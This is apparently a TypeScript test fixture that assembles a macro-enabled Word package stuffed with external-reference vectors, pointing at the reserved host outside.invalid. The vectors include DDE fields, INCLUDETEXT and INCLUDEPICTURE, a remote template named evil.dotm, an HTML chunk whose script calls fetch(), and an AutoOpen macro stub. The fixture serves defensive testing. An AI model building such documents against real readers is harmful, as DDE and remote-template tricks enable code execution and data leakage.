import { OpcPackage } from '@fg2rec/ooxml';

const office = 'http://schemas.openxmlformats.org';
const kinds = `${office}/officeDocument/2006/relationships`;
const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml';

const run = (text: string): string => `<w:r><w:t xml:space="preserve">${text}</w:t></w:r>`;
const field = (code: string, result: string): string =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${code
    .split('|')
    .map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`)
    .join(
      '',
    )}<w:r><w:fldChar w:fldCharType="separate"/></w:r>${run(result)}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const picture = (link: string): string =>
  `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="7" name="P"/><a:graphic><a:graphicData uri="${office}/drawingml/2006/picture"><pic:pic><pic:blipFill><a:blip r:link="${link}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;

/** Addresses that must never be asked for. No name of them exists (RFC 6761 clause 6.4). */
export const outside = 'outside.invalid';

/** A document that would lead a trusting program to many places outside: every way that Word knows, and macros. */
export function documentOfOutsideTargets(): Uint8Array {
  const body = [
    `<w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr>${run('1 Scope')}</w:p>`,
    `<w:p>${run('Plain words that stay.')}</w:p>`,
    field(' DDE|AUTO excel "C:\\\\a.xls" "A1" ', 'result of the exchange'),
    field(` INCLUDETEXT "http://${outside}/included.docx" `, 'text that was included'),
    field(` INCLUDEPICTURE "http://${outside}/p.png" \\d `, 'picture that was included'),
    `<w:p><w:fldSimple w:instr=" LINK Excel.Sheet &quot;\\\\\\\\${outside}\\\\share\\\\a.xls&quot; ">${run('linked cell')}</w:fldSimple></w:p>`,
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE cmd </w:instrText></w:r>${run('never ended')}</w:p>`,
    picture('image'),
    `<w:p><w:hyperlink r:id="link">${run('a link to follow')}</w:hyperlink></w:p>`,
    `<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet" r:id="ole"/></w:object></w:r></w:p>`,
    '<w:altChunk r:id="chunk"/>',
    '<w:altChunk r:id="chunkAway"/>',
    `<w:p>${run('The end.')}</w:p>`,
  ];
  const away = (id: string, kind: string, target: string): string =>
    `<Relationship Id="${id}" Type="${kinds}/${kind}" Target="${target}" TargetMode="External"/>`;
  const held = (id: string, type: string, target: string): string =>
    `<Relationship Id="${id}" Type="${type}" Target="${target}"/>`;
  const relationships = (rows: readonly string[]): string =>
    `<Relationships xmlns="${office}/package/2006/relationships">${rows.join('')}</Relationships>`;
  const macros = 'http://schemas.microsoft.com/office/2006/relationships/vbaProject';
  const parts: Readonly<Record<string, string>> = {
    '[Content_Types].xml': `<Types xmlns="${office}/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="html" ContentType="text/html"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="sigs" ContentType="application/vnd.openxmlformats-package.digital-signature-origin"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Override PartName="/word/settings.xml" ContentType="${word}.settings+xml"/></Types>`,
    '_rels/.rels': relationships([
      held('rId1', `${kinds}/officeDocument`, 'word/document.xml'),
      held(
        'rId2',
        `${office}/package/2006/relationships/digital-signature/origin`,
        '_xmlsignatures/origin.sigs',
      ),
    ]),
    '_xmlsignatures/origin.sigs': '',
    'word/document.xml': `<w:document xmlns:w="${office}/wordprocessingml/2006/main" xmlns:r="${kinds}" xmlns:wp="${office}/drawingml/2006/wordprocessingDrawing" xmlns:a="${office}/drawingml/2006/main" xmlns:pic="${office}/drawingml/2006/picture" xmlns:o="urn:schemas-microsoft-com:office:office"><w:body>${body.join('')}</w:body></w:document>`,
    'word/_rels/document.xml.rels': relationships([
      held('settings', `${kinds}/settings`, 'settings.xml'),
      held('vba', macros, 'vbaProject.bin'),
      held('chunk', `${kinds}/aFChunk`, 'chunk.html'),
      away('chunkAway', 'aFChunk', `http://${outside}/chunk.html`),
      away('image', 'image', `http://${outside}/image.png`),
      away('ole', 'oleObject', `file://${outside}/share/book.xlsx`),
      away('link', 'hyperlink', `http://${outside}/link`),
    ]),
    'word/settings.xml': `<w:settings xmlns:w="${office}/wordprocessingml/2006/main" xmlns:r="${kinds}"><w:attachedTemplate r:id="template"/></w:settings>`,
    'word/_rels/settings.xml.rels': relationships([
      away('template', 'attachedTemplate', `http://${outside}/evil.dotm`),
    ]),
    'word/chunk.html': `<html><script>fetch("http://${outside}/")</script><img src="http://${outside}/a.png">chunk</html>`,
    'word/vbaProject.bin': 'Sub AutoOpen()',
  };
  const encoder = new TextEncoder();
  return new OpcPackage(
    'outside.docm',
    new Map(Object.entries(parts).map(([name, text]) => [name, encoder.encode(text)])),
  ).save();
}
